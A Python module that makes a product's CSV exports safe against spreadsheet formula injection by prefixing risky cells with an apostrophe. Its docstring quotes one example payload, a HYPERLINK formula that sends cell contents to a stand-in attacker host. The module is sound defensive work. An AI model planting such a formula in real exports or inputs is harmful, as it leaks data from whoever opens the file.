"""CSV files the product writes (form results, import errors): every cell spreadsheet-safe.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and a leading tab or carriage return can smuggle one past a check): a submitted
value such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run on the machine of
whoever opens the export. Every text cell that starts like that is written with a leading
apostrophe, which spreadsheets show as text and do not display. Numbers are written as they
are: ``-5`` is a number, not a formula.

Every CSV the product writes goes through :class:`SafeCsvWriter`, so that no exporter can
forget to escape.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> str | int | float:
    """The value as a cell a spreadsheet shows as text, never runs."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return value
    if isinstance(value, list | tuple):
        value = ", ".join(str(v) for v in value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeCsvWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
